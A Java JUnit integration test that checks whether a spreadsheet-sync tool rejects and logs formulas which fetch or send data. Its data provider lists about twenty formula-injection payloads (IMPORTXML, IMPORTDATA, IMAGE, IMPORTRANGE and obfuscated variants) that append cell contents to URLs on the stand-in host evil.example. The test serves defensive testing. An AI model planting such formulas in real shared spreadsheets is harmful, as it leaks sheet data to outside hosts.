package org.sverka.fault;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Formulas that fetch something, or send it: Google runs them, Sverka neither runs nor shows them.
 */
class FormulaThreatsIT {
  private static final String REPORT = "Ход исполнения (Санкт-Петербург)";

  /** More at once are a mass change, which is held for a while. */
  private static final int AT_ONCE = 7;

  @RegisterExtension static final Bench bench = Bench.shared();

  static Stream<List<String>> formulas() {
    String url = "\"https://evil.example/?\"&A1";
    List<String> all =
        List.of(
            "=IMPORTXML(" + url + ";\"//a\")",
            "=importxml(" + url + ";\"//a\")",
            "=ImportHtml(" + url + ";\"table\";1)",
            "=IMPORTDATA(" + url + ")",
            "=IMPORTFEED(" + url + ")",
            "=IMPORTRANGE(\"1AbCevil\";\"A1:B2\")",
            "=IMAGE(" + url + ")",
            "=HYPERLINK(" + url + ";\"Отчёт\")",
            "=GOOGLEFINANCE(\"evil.example\")",
            "=GOOGLETRANSLATE(A1;\"ru\";\"en\")",
            "=QUERY(IMPORTRANGE(\"1AbCevil\";\"A1\");\"select *\")",
            "=IF(TRUE;IFERROR(IMPORTDATA(" + url + ");\"\");\"\")",
            "=ARRAYFORMULA(IMPORTDATA(" + url + "&A1:A9))",
            "=LET(x;IMPORTXML(" + url + ";\"/\");x)",
            "=LAMBDA(u;IMAGE(u))(" + url + ")",
            "=ИМПОРТДАННЫХ(" + url + ")",
            "=CALL_EVIL_EXAMPLE(A1)",
            "=  IMPORTXML(" + url + ";\"//a\")",
            "=(IMPORTDATA(" + url + "))",
            "=\"Проведена встреча\"&T(IMPORTDATA(" + url + "))",
            "=-IMPORTDATA(" + url + ")");
    return IntStream.iterate(0, i -> i < all.size(), i -> i + AT_ONCE)
        .mapToObj(i -> all.subList(i, Math.min(all.size(), i + AT_ONCE)));
  }

  @ParameterizedTest
  @MethodSource("formulas")
  void t3_formula_isRejectedAndNamedInTheLog(List<String> formulas) {
    long before = bench.webmaster().revision();
    List<List<String>> sheet = bench.editor().rows();
    int column = sheet.get(0).indexOf(REPORT);
    List<Integer> rows = measures(sheet);
    for (int i = 0; i < formulas.size(); i++) {
      bench.editor().type(rows.get(i), column, formulas.get(i));
    }
    bench.cycles(2);

    assertThat(verdicts(before)).hasSize(formulas.size()).containsOnly("rejected formula-in-cell");
    assertThat(bench.webmaster().get("").body()).doesNotContain("evil.example", "1AbCevil");
    for (int i = 0; i < formulas.size(); i++) {
      List<String> row = sheet.get(rows.get(i));
      bench.editor().type(rows.get(i), column, column < row.size() ? row.get(column) : "");
    }
    bench.cycles(2);
  }

  private static List<Integer> measures(List<List<String>> sheet) {
    List<Integer> rows = new ArrayList<>();
    for (int i = 0; i < sheet.size(); i++) {
      if (!sheet.get(i).isEmpty() && sheet.get(i).get(0).matches("\\d+\\.\\d+")) {
        rows.add(i);
      }
    }
    return rows;
  }

  private static List<String> verdicts(long before) {
    return bench.webmaster().entries(before).stream()
        .filter(entry -> entry.path("type").asText().equals("edit"))
        .map(FormulaThreatsIT::verdict)
        .toList();
  }

  private static String verdict(JsonNode entry) {
    return entry.path("verdict").asText() + " " + entry.at("/findings/0/rule").asText();
  }
}
